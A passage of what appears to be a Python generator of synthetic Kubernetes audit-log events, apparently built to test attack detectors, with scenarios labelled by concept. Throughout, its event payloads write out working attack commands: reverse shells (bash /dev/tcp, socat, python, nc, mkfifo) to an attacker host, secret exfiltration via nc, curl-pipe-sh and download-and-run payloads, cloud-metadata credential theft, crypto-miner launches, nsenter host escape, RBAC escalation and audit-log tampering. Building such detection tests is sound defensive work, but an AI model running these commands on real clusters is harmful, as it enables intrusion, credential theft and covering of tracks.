       req={"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "dave-admin"},
            "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1ZqQ0NBVDRDQVFBd0VURVBNQTBHQTFVRUF3d0djM2x6ZEdWdE9tRmtiV2x1", "signerName": "kubernetes.io/kube-apiserver-client",
                     "expirationSeconds": 31536000, "usages": ["client auth"]}})
    ev(t + 45, dave, "PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/dave-admin/approval", ua=dua, ips=dave_tor, level="Metadata", concept="csr_approve")
    ev(t + 47, dave, "GET", "/apis/certificates.k8s.io/v1/certificatesigningrequests/dave-admin", ua=dua, ips=dave_tor, concept="csr_approve")
    # 50 JSON patch adding a subject to the cluster-admin binding
    ev(t + 70, dave, "PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/cluster-admin", ua=dua, ips=dave_tor, level="RequestResponse", concept="rbac_jsonpatch_cluster_admin",
       req=[{"op": "add", "path": "/subjects/-", "value": {"kind": "ServiceAccount", "name": "frontend", "namespace": "shop"}}])
    # 51 binding to system:authenticated (non-admin custom role)
    ev(t + 90, dave, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", ua=dua, ips=dave_tor, level="RequestResponse", concept="binding_system_authenticated",
       req={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "support-readers"},
            "subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:authenticated"}], "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "secret-reader"}})
    # 53 binding view to system:anonymous (then D)
    ev(t + 110, dave, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", ua=dua, ips=dave_tor, level="RequestResponse", concept="binding_anonymous",
       req={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "public-status"},
            "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "system:anonymous"}], "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"}})
    # 54 cluster-admin binding created at Metadata level (no body)
    ev(t + 130, dave, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", ua=dua, ips=dave_tor, level="Metadata", concept="crb_metadata_only")
    # 55 clusterrole with bind/escalate/impersonate
    ev(t + 150, dave, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterroles", ua=dua, ips=dave_tor, level="RequestResponse", concept="role_escalate_bind_impersonate",
       req={"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ops-helper"},
            "rules": [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles", "clusterrolebindings"], "verbs": ["bind", "escalate"]},
                      {"apiGroups": [""], "resources": ["users", "groups", "serviceaccounts"], "verbs": ["impersonate"]}]})
    # 57 impersonation of system:masters
    ev(t + 170, dave, "GET", "/api/v1/namespaces/kube-system/secrets", ua=dua, ips=dave_tor, concept="impersonate_masters",
       imp={"username": "system:admin", "groups": ["system:masters"]})
    # 60 mutating webhook to an external URL
    ev(t + 200, dave, "POST", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", ua=dua, ips=dave_tor, level="RequestResponse", concept="mutating_webhook_external",
       req={"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "metadata": {"name": "istio-sidecar-injector-v2"},
            "webhooks": [{"name": "inject.istio.io", "clientConfig": {"url": f"https://{ATK}:8443/mutate"}, "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                          "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"]}]})
    # 61 validating webhook deleted (policy engine off)
    ev(t + 220, dave, "DELETE", "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kyverno-resource-validating-webhook-cfg", ua=dua, ips=dave_tor, concept="validating_webhook_deleted")
    # 62 CronJob in kube-system with hostNetwork (via kubectl create cronjob -> then patched)
    ev(t + 240, dave, "POST", "/apis/batch/v1/namespaces/kube-system/cronjobs", ua=dua, ips=dave_tor, level="RequestResponse", concept="kube_system_cronjob",
       req={"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "etcd-defrag", "namespace": "kube-system"},
            "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"hostNetwork": True, "restartPolicy": "OnFailure",
                     "containers": [{"name": "d", "image": "bitnami/kubectl:1.29", "command": ["kubectl", "get", "secrets", "-A", "-o", "yaml"]}]}}}}}})
    # 64 SA in kube-system
    ev(t + 260, dave, "POST", "/api/v1/namespaces/kube-system/serviceaccounts", ua=dua, ips=dave_tor, level="RequestResponse", concept="sa_in_kube_system",
       req={"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "system-monitor", "namespace": "kube-system"}})
    # 67/68 events deletion (deletecollection, and events.k8s.io)
    t = 8400
    ev(t, dave, "DELETE", "/api/v1/namespaces/shop/events", ua=dua, ips=dave_tor, concept="events_deletecollection")
    ev(t + 5, dave, "DELETE", "/apis/events.k8s.io/v1/namespaces/kube-system/events/kube-proxy-4xz9q.17cf0a3b2c1d4e5f", ua=dua, ips=dave_tor, concept="events_k8sio_delete")
    # 69 audit policy tampering attempts
    ev(t + 30, dave, "PATCH", "/api/v1/namespaces/kube-system/configmaps/audit-policy", ua=dua, ips=dave_tor, level="RequestResponse", concept="audit_policy_tamper",
       req={"data": {"policy.yaml": "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: None\n"}})
    ev(t + 40, dave, "PUT", "/api/v1/namespaces/kube-system/pods/kube-apiserver-cp-1", ua=dua, ips=dave_tor, level="RequestResponse", code=422, concept="audit_policy_tamper",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "kube-apiserver-cp-1", "namespace": "kube-system", "annotations": {"kubernetes.io/config.mirror": "a1b2c3"}},
            "spec": {"containers": [{"name": "kube-apiserver", "image": "registry.k8s.io/kube-apiserver:v1.29.4", "command": ["kube-apiserver", "--audit-log-maxage=0", "--audit-policy-file="]}]}})
    # 70 logging daemonset deleted
    ev(t + 60, dave, "DELETE", "/apis/apps/v1/namespaces/logging/daemonsets/fluent-bit", ua=dua, ips=dave_tor, concept="logging_ds_deleted")
    # 71 network policy deleted
    ev(t + 70, dave, "DELETE", "/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/default-deny-ingress", ua=dua, ips=dave_tor, concept="netpol_deleted")
    # 82 namespace deleted
    ev(t + 90, dave, "DELETE", "/api/v1/namespaces/velero", ua=dua, ips=dave_tor, concept="delete_namespace_velero")

    # ---- carol (legit insider, normal IP) -------------------------------------------------
    cip = [cips[0]]
    t = 6500
    # 2 reverse shell, POST, %20-encoded
    ev(t, carol, "POST", exec_uri("shop", cart, ["bash", "-c", f"bash -i >& /dev/tcp/{ATK}/4444 0>&1"], "cart", enc="pct"), ua=cua, ips=cip, concept="exec_revshell_devtcp")
    # 3 socat reverse shell split over params
    ev(t + 30, carol, "GET", exec_uri("data", kafka0, ["socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", f"tcp:{ATK}:4444"], "kafka"), ua=cua, ips=cip, concept="exec_revshell_socat")
    # 3b python reverse shell
    ev(t + 60, carol, "GET", exec_uri("data", "redis-0", ["python3", "-c", f"import socket,os,pty;s=socket.socket();s.connect((\"{ATK}\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"], "redis"), ua=cua, ips=cip, concept="exec_revshell_python")
    # 4 nc -e split
    ev(t + 90, carol, "GET", exec_uri("shop", cart, ["nc", "-e", "/bin/sh", ATK, "9001"], "cart"), ua=cua, ips=cip, concept="exec_revshell_nc")
    # 5 base64-decoded payload
    ev(t + 120, carol, "GET", exec_uri("shop", cart, ["sh", "-c", "echo Y3VybCAtcyBodHRwOi8vNDUuMTM3LjIxLjkvYSB8IHNo | base64 -d | sh"], "cart"), ua=cua, ips=cip, concept="exec_base64")
    # 7 cloud credentials file
    ev(t + 150, carol, "GET", exec_uri("external-dns", EXTDNS["name"], ["sh", "-c", "cat ~/.aws/credentials; env | grep AWS_"], "external-dns"), ua=cua, ips=cip, concept="exec_cloud_creds_file")
    # 8 cloud metadata (AWS IMDS via wget; GCE metadata via curl)
    ev(t + 180, carol, "GET", exec_uri("shop", cart, ["wget", "-qO-", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"], "cart"), ua=cua, ips=cip, concept="exec_cloud_metadata")
    ev(t + 190, carol, "GET", exec_uri("shop", cart, ["curl", "-s", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"], "cart"), ua=cua, ips=cip, concept="exec_cloud_metadata")
    # 13 miner via exec
    ev(t + 220, carol, "GET", exec_uri("data", kafka0, ["sh", "-c", "cd /tmp && ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ --donate-level 1 -B"], "kafka"), ua=cua, ips=cip, concept="exec_miner")
    # 23 JSON patch adding a hostPath / to a deployment
    ev(t + 300, carol, "PATCH", "/apis/apps/v1/namespaces/shop/deployments/cart", ua=cua, ips=cip, level="RequestResponse", concept="hostpath_jsonpatch",
       req=[{"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "host", "hostPath": {"path": "/", "type": "Directory"}}},
            {"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts/-", "value": {"name": "host", "mountPath": "/host"}}])
    # 26 privileged ephemeral container (kubectl debug --profile=sysadmin)
    ev(t + 330, carol, "PATCH", f"/api/v1/namespaces/shop/pods/{cart}/ephemeralcontainers", ua=cua, ips=cip, level="RequestResponse", concept="privileged_ephemeral",
       req={"spec": {"ephemeralContainers": [{"name": "debugger-7xk2p", "image": "busybox:1.36", "stdin": True, "tty": True, "targetContainerName": "cart",
                                               "securityContext": {"privileged": True}, "terminationMessagePolicy": "File"}]}},
       ann={"authorization.k8s.io/reason": ""})
    # 27 strategic merge patch: hostPID + hostNetwork on a statefulset
    ev(t + 360, carol, "PATCH", "/apis/apps/v1/namespaces/data/statefulsets/redis", ua=cua, ips=cip, level="RequestResponse", concept="hostpid_strategic_patch",
       req={"spec": {"template": {"spec": {"hostPID": True, "hostNetwork": True}}}})
    # 42 first read of a bootstrap token secret
    ev(t + 400, carol, "GET", "/api/v1/namespaces/kube-system/secrets/bootstrap-token-9x2kq1", ua=cua, ips=cip, concept="secret_first_read_bootstrap")
    # 49 merge patch: wildcard rule on an existing clusterrole
    ev(t + 430, carol, "PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterroles/app-reader", ua=cua, ips=cip, level="RequestResponse", concept="rbac_mergepatch_wildcard",
       req={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]})
    # 52 strategic patch adding group system:serviceaccounts to an edit rolebinding
    ev(t + 460, carol, "PATCH", "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings/shop-editors", ua=cua, ips=cip, level="RequestResponse", concept="binding_all_serviceaccounts",
       req={"subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:serviceaccounts"}, {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:shop-devs"}]},
       resp={"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "shop-editors", "namespace": "shop"},
             "subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:serviceaccounts"}, {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:shop-devs"}],
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"}})
    # 58 impersonating a controller SA
    ev(t + 490, carol, "GET", "/api/v1/namespaces/kube-system/secrets?limit=500", ua=cua, ips=cip, concept="impersonate_controller_sa",
       imp={"username": "system:serviceaccount:kube-system:namespace-controller", "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]})
    # 65 CoreDNS configmap changed to forward to attacker
    ev(t + 520, carol, "PATCH", "/api/v1/namespaces/kube-system/configmaps/coredns", ua=cua, ips=cip, level="RequestResponse", concept="coredns_modified",
       req={"data": {"Corefile": ".:53 {\n    errors\n    health\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n    }\n    forward . " + ATK + "\n    cache 30\n}\n"}})
    # 61b token via TokenRequest for argocd's controller by a human (Metadata)
    ev(t + 550, carol, "POST", "/api/v1/namespaces/argocd/serviceaccounts/argocd-application-controller/token", ua=cua, ips=cip, concept="token_request_other_human")
    # nodes/proxy exec over websocket
    ev(t + 600, carol, "GET", "/api/v1/nodes/node-c/proxy/exec/kube-system/" + kproxy + "/kube-proxy?command=sh&command=-c&command=cat+%2Fvar%2Flib%2Fkube-proxy%2Fkubeconfig.conf&input=1&output=1&tty=0",
       ua=cua, ips=cip, code=101, concept="nodes_proxy_exec_ws")
    # nodes/proxy run (POST) with cmd in query
    ev(t + 620, carol, "POST", "/api/v1/nodes/node-b/proxy/run/shop/" + PAYMENTS["name"] + "/payments-api?cmd=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
       ua="curl/8.5.0", ips=cip, concept="nodes_proxy_run")
    # sidecar injection by strategic merge patch
    ev(t + 650, carol, "PATCH", "/apis/apps/v1/namespaces/shop/deployments/checkout", ua=cua, ips=cip, level="RequestResponse", concept="sidecar_injection",
       req={"spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": "checkout"}, {"name": "log-shipper"}],
                                            "containers": [{"name": "log-shipper", "image": "alpine:3.19", "command": ["sh", "-c", f"while true; do tar cz /var/run/secrets | nc {ATK} 8080; sleep 300; done"]}]}}}})

    # ---- B: compromised frontend pod (SA shop:frontend, from pod IP) ----------------------
    t = 8700
    kua = ATK_KUBECTL
    # 6 token read via exec (frontend SA has edit in shop) - ws get, %-encoded
    ev(t, fe, "GET", exec_uri("shop", cart, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "cart", enc="pct"), ua=kua, ips=feip, concept="exec_token_read")
    # 38 secrets list with fieldSelector via kubectl from a SA
    ev(t + 20, fe, "GET", "/api/v1/namespaces/shop/secrets?fieldSelector=metadata.name%3Dpostgres-credentials&limit=500", ua=kua, ips=feip, concept="secrets_fieldselector_kubectl")
    # 39 cluster-wide list (denied) then namespace list
    ev(t + 30, fe, "GET", "/api/v1/secrets?limit=500", ua=kua, ips=feip, code=403, concept="secrets_cluster_list_denied")
    # 29/25 pod from pod IP, privileged initContainer
    ev(t + 60, fe, "POST", "/api/v1/namespaces/shop/pods?fieldManager=kubectl-run", ua=kua, ips=feip, level="RequestResponse", concept="privileged_initcontainer_from_pod_ip",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "frontend-warmup", "namespace": "shop", "labels": {"app": "frontend"}},
            "spec": {"initContainers": [{"name": "init", "image": "busybox:1.36", "command": ["sh", "-c", "sysctl -w net.ipv4.ip_forward=1"], "securityContext": {"privileged": True}}],
                     "containers": [{"name": "app", "image": "nginx:1.25"}]}})
    # 21 deployment with hostPath /var/lib/kubelet/ (trailing slash)
    ev(t + 90, fe, "POST", "/apis/apps/v1/namespaces/shop/deployments", ua=kua, ips=feip, level="RequestResponse", concept="hostpath_deployment_trailing_slash",
       req={"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "frontend-cache", "namespace": "shop"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "fc"}}, "template": {"metadata": {"labels": {"app": "fc"}},
                     "spec": {"containers": [{"name": "c", "image": "nginx:1.25", "volumeMounts": [{"name": "k", "mountPath": "/cache"}]}],
                              "volumes": [{"name": "k", "hostPath": {"path": "/var/lib/kubelet/"}}]}}}})
    # 22 CronJob with /tmp/../etc/kubernetes/pki hostPath
    ev(t + 120, fe, "POST", "/apis/batch/v1/namespaces/shop/cronjobs", ua=kua, ips=feip, level="RequestResponse", concept="hostpath_cronjob_dotdot",
       req={"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "cleanup", "namespace": "shop"},
            "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure",
                     "containers": [{"name": "c", "image": "busybox:1.36", "command": ["sh", "-c", "cat /pki/ca.key"], "volumeMounts": [{"name": "p", "mountPath": "/pki"}]}],
                     "volumes": [{"name": "p", "hostPath": {"path": "/tmp/../etc/kubernetes/pki"}}]}}}}}})
    # 34 cryptominer image in a CronJob jobTemplate
    ev(t + 150, fe, "POST", "/apis/batch/v1/namespaces/shop/cronjobs", ua=kua, ips=feip, level="RequestResponse", concept="cryptominer_cronjob",
       req={"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "thumbnailer", "namespace": "shop"},
            "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "Never",
                     "containers": [{"name": "t", "image": "docker.io/metal3d/xmrig:latest", "args": ["-o", "pool.supportxmr.com:443", "--tls"]}]}}}}}})
    # 63 DaemonSet by SA
    ev(t + 180, fe, "POST", "/apis/apps/v1/namespaces/shop/daemonsets", ua=kua, ips=feip, level="RequestResponse", concept="daemonset_by_sa",
       req={"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "frontend-agent", "namespace": "shop"},
            "spec": {"selector": {"matchLabels": {"app": "fa"}}, "template": {"metadata": {"labels": {"app": "fa"}}, "spec": {"containers": [{"name": "a", "image": "nginx:1.25"}]}}}})
    # 44 token for another (privileged) SA, Metadata
    ev(t + 210, fe, "POST", "/api/v1/namespaces/shop/serviceaccounts/payments-api/token", ua=kua, ips=feip, concept="token_request_other_sa")
    # 56 Role with serviceaccounts/token + pods/exec created by the SA
    ev(t + 240, fe, "POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles", ua=kua, ips=feip, level="RequestResponse", concept="role_tokens_exec_by_sa",
       req={"kind": "Role", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "debugger", "namespace": "shop"},
            "rules": [{"apiGroups": [""], "resources": ["serviceaccounts/token", "pods/exec", "secrets"], "verbs": ["create", "get"]}]})
    # 66 service exposed via LoadBalancer on postgres
    ev(t + 270, fe, "POST", "/api/v1/namespaces/shop/services", ua=kua, ips=feip, level="RequestResponse", concept="service_lb_exposure",
       req={"kind": "Service", "apiVersion": "v1", "metadata": {"name": "pg-ext", "namespace": "shop"},
            "spec": {"type": "LoadBalancer", "selector": {"statefulset.kubernetes.io/pod-name": "postgres-0"}, "ports": [{"port": 5432, "targetPort": 5432}]}})
    # self permission review by the SA
    ev(t + 5, fe, "POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", ua=kua, ips=feip, level="Request", concept="sa_self_rules_review",
       req={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "shop"}})

    # ---- A: stolen payments-api token, used from the internet --------------------------------
    t = 9000
    pua = cg_ua("payments-api")
    # 76 same UA, internet IP
    ev(t, pay, "GET", "/api/v1/namespaces/shop/configmaps/payments-config", ua=pua, ips=[ATK], concept="sa_token_from_internet")
    # 77 enumeration with denials
    ev(t + 30, pay, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", ua="curl/8.5.0", ips=[ATK], level="Request", concept="sa_enumeration",
       req={"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"verb": "*", "resource": "*"}}})
    for i, u in enumerate(["/api/v1/namespaces", "/api/v1/nodes", "/api/v1/pods", "/apis/rbac.authorization.k8s.io/v1/clusterroles", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                           "/api/v1/namespaces/kube-system/secrets", "/api/v1/namespaces/kube-system/configmaps", "/apis/apps/v1/deployments", "/api/v1/serviceaccounts",
                           "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
                           "/api/v1/namespaces/shop/pods", "/api/v1/namespaces/shop/secrets", "/apis/batch/v1/namespaces/shop/cronjobs"]):
        ok = "/namespaces/shop/" in u
        ev(t + 40 + i * 2, pay, "GET", u, ua="curl/8.5.0", ips=[ATK], code=200 if ok else 403, concept="sa_enumeration")
    # 37 secrets watch in namespace with curl
    ev(t + 90, pay, "GET", "/api/v1/namespaces/shop/secrets?watch=1", ua="curl/8.5.0", ips=[ATK], concept="secrets_watch_curl")
    # 19 port-forward to postgres from the internet, ws
    ev(t + 120, pay, "GET", "/api/v1/namespaces/shop/pods/postgres-0/portforward?ports=5432", ua=ATK_KUBECTL, ips=[ATK], code=101, concept="portforward_internet")
    # 18 nodes/proxy pods listing
    ev(t + 150, pay, "GET", "/api/v1/nodes/node-b/proxy/pods", ua="curl/8.5.0", ips=[ATK], concept="nodes_proxy_pods")
    # 80 recon tool UA
    ev(t + 160, pay, "GET", "/api/v1/namespaces/shop/pods", ua="peirates/1.1.19", ips=[ATK], concept="recon_tool_ua")

    # ---- E: argocd-server SA, long history, now python-requests
    t = 9300
    asrv = sa_of(ARGO_SRV)
    ev(t, asrv, "GET", "/api/v1/namespaces/argocd/secrets/argocd-initial-admin-secret", ua="python-requests/2.31.0", ips=[ARGO_SRV["ip"]], concept="sa_new_ua_python")
    ev(t + 3, asrv, "GET", "/api/v1/namespaces/argocd/secrets/repo-github-creds", ua="python-requests/2.31.0", ips=[ARGO_SRV["ip"]], concept="sa_new_ua_python")

    # ---- F: node credential of node-b stolen, used from the internet
    t = 9400
    nb = user_node("node-b")
    ev(t, nb, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", ips=[ATK], level="Request", concept="node_cred_internet",
       req={"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"verb": "get", "resource": "secrets", "namespace": "kube-system"}}}, reason="")
    ev(t + 10, nb, "GET", "/api/v1/namespaces/kube-system/secrets/cloud-provider-config", ua=ATK_KUBECTL, ips=[ATK], code=403, concept="node_cred_internet",
       reason='no relationship found between node \'node-b\' and this object')
    ev(t + 20, nb, "GET", "/api/v1/namespaces/shop/secrets/stripe-key", ua=ATK_KUBECTL, ips=[ATK], concept="node_cred_internet", reason="")
    # 32 fake mirror pod by the node credential
    ev(t + 40, nb, "POST", "/api/v1/namespaces/default/pods", ua=ATK_KUBECTL, ips=[ATK], level="RequestResponse", concept="mirror_pod_fake", reason="",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "metrics-collector-node-b", "namespace": "default", "annotations": {"kubernetes.io/config.mirror": "f00dbeef", "kubernetes.io/config.source": "file"},
            "ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": "node-b", "uid": NODE_UID["node-b"], "controller": True}]},
            "spec": {"nodeName": "node-b", "hostPID": True, "containers": [{"name": "c", "image": "alpine:3.19", "command": ["sleep", "infinity"], "securityContext": {"privileged": True}}]}})

    # ---- G: kube-controller-manager credential from the internet
    t = 9500
    kcm = user_sys("system:kube-controller-manager")
    ev(t, kcm, "GET", "/api/v1/namespaces/kube-system/secrets?limit=500", ua=ATK_KUBECTL, ips=[ATK], concept="kcm_cred_internet")
    ev(t + 5, kcm, "POST", "/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token", ua=ATK_KUBECTL, ips=[ATK], concept="kcm_cred_internet")

    # ---- D: anonymous reaching resources (after the public-status binding)
    t = 9600
    av = 'RBAC: allowed by ClusterRoleBinding "public-status" of ClusterRole "view" to User "system:anonymous"'
    ev(t, ANON, "GET", "/api/v1/namespaces/default/pods", ua="curl/8.4.0", ips=[ANON_IP], reason=av, concept="anon_list_pods")
    ev(t + 10, ANON, "GET", "/api/v1/namespaces/kube-system/configmaps?limit=500", ua="curl/8.4.0", ips=[ANON_IP], reason=av, concept="anon_list_pods")
    ev(t + 20, ANON, "GET", "/api/v1/namespaces/shop/secrets/stripe-key", ua="curl/8.4.0", ips=[ANON_IP],
       reason='RBAC: allowed by ClusterRoleBinding "support-readers" of ClusterRole "secret-reader" to Group "system:unauthenticated"', concept="anon_secret_get")
    ev(t + 40, ANON, "POST", "/api/v1/namespaces/default/configmaps", ua="curl/8.4.0", ips=[ANON_IP], level="RequestResponse",
       reason='RBAC: allowed by ClusterRoleBinding "oops-edit" of ClusterRole "edit" to User "system:anonymous"', concept="anon_write",
       req={"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "pwn"}, "data": {"x": "1"}})
    # anonymous exec via websocket with %20 & URL-encoded shell
    ev(t + 60, ANON, "GET", exec_uri("default", "scratch", ["/bin/sh", "-c", "id; uname -a"], "s", enc="pct"), ua="websocat/1.12", ips=[ANON_IP],
       reason='RBAC: allowed by ClusterRoleBinding "oops-edit" of ClusterRole "edit" to User "system:anonymous"', concept="anon_exec_ws")

    # ---- host escape via exec into the privileged pod (carol) & chroot
    t = 9700
    ev(t, carol, "GET", exec_uri("default", "scratch", ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"], "s", tty=True), ua=cua, ips=cip, concept="exec_host_nsenter")
    ev(t + 20, carol, "GET", exec_uri("default", "scratch", ["chroot", "/data", "/bin/sh", "-c", "cat /etc/kubernetes/admin.conf"], "s"), ua=cua, ips=cip, concept="exec_host_chroot")

    # ---- helm-style attack via CI SA: ClusterRoleBinding to admin in kube-system by a rolebinding (Request level)
    t = 9800
    ci = user_sa("ci", "gitlab-deployer")
    ev(t, ci, "POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/kube-system/rolebindings", ua="Helm/3.14.2", ips=["10.20.0.5"], level="Request", concept="rolebinding_admin_kube_system_by_ci",
       req={"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-admin", "namespace": "kube-system"},
            "subjects": [{"kind": "ServiceAccount", "name": "gitlab-deployer", "namespace": "ci"}], "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}})

    # ---- round 2 variants (t = 9900..10600)
    t = 9900
    ev(t, dave, "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", ua=dua, ips=dave_tor, level="Request", concept="csr_create_request_level",
       req={"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "svc-backup"},
            "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0=", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["digital signature", "key encipherment", "client auth"]}})
    ev(t + 5, dave, "PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/svc-backup/approval", ua=dua, ips=dave_tor, level="Request", concept="csr_approve_request_level",
       req={"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "svc-backup"},
            "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0=", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
            "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "This CSR was approved by kubectl certificate approve."}]}})
    # ephemeral container via PUT (update) with the whole pod, SYS_ADMIN + hostPID-less escape via capabilities ALL
    ev(t + 30, carol, "PUT", f"/api/v1/namespaces/data/pods/{kafka0}/ephemeralcontainers", ua=cua, ips=cip, level="RequestResponse", concept="ephemeral_update_caps_all",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": kafka0, "namespace": "data"},
            "spec": {"containers": [{"name": "kafka", "image": "bitnami/kafka:3.7"}],
                     "ephemeralContainers": [{"name": "dbg", "image": "nicolaka/netshoot", "securityContext": {"capabilities": {"add": ["ALL"]}}, "stdin": True, "tty": True}]}})
    # JSON patch replacing a deployment image with a miner
    ev(t + 60, carol, "PATCH", "/apis/apps/v1/namespaces/shop/deployments/frontend", ua=cua, ips=cip, level="RequestResponse", concept="miner_image_jsonpatch",
       req=[{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "docker.io/xmrig/xmrig:6.21.0"}])
    # hostPath with a double slash and docker socket through ../
    ev(t + 90, carol, "POST", "/api/v1/namespaces/data/pods", ua=cua, ips=cip, level="RequestResponse", concept="hostpath_double_slash_socket",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "log-reader", "namespace": "data"},
            "spec": {"containers": [{"name": "r", "image": "alpine:3.19", "command": ["sleep", "infinity"], "volumeMounts": [{"name": "a", "mountPath": "/a"}, {"name": "b", "mountPath": "/b"}]}],
                     "volumes": [{"name": "a", "hostPath": {"path": "//etc//"}}, {"name": "b", "hostPath": {"path": "/run/../var/run/docker.sock"}}]}})
    # download, chmod, run without a pipe
    ev(t + 120, carol, "GET", exec_uri("shop", cart, ["/bin/sh", "-c", f"wget -q http://{ATK}/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k"], "cart"), ua=cua, ips=cip, concept="exec_download_chmod_run")
    # busybox mkfifo reverse shell
    ev(t + 150, carol, "GET", exec_uri("shop", cart, ["sh", "-c", f"rm -f /tmp/p; mkfifo /tmp/p; busybox nc {ATK} 4444 0</tmp/p | sh >/tmp/p 2>&1"], "cart"), ua=cua, ips=cip, concept="exec_revshell_mkfifo")
    # DaemonSet patched (strategic merge) to be privileged with hostPath /proc
